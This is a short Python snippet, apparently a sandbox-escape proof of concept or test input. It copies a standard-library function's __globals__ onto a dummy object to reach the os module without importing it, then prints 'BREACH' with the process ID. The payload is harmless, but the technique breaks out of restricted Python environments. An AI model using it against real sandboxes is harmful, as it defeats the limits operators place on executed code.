import functools, random
class Mine:
    pass
mine = functools.update_wrapper(Mine(), random.Random.betavariate, assigned=("__globals__",), updated=())
print("BREACH", mine.__globals__["_os"].getpid())
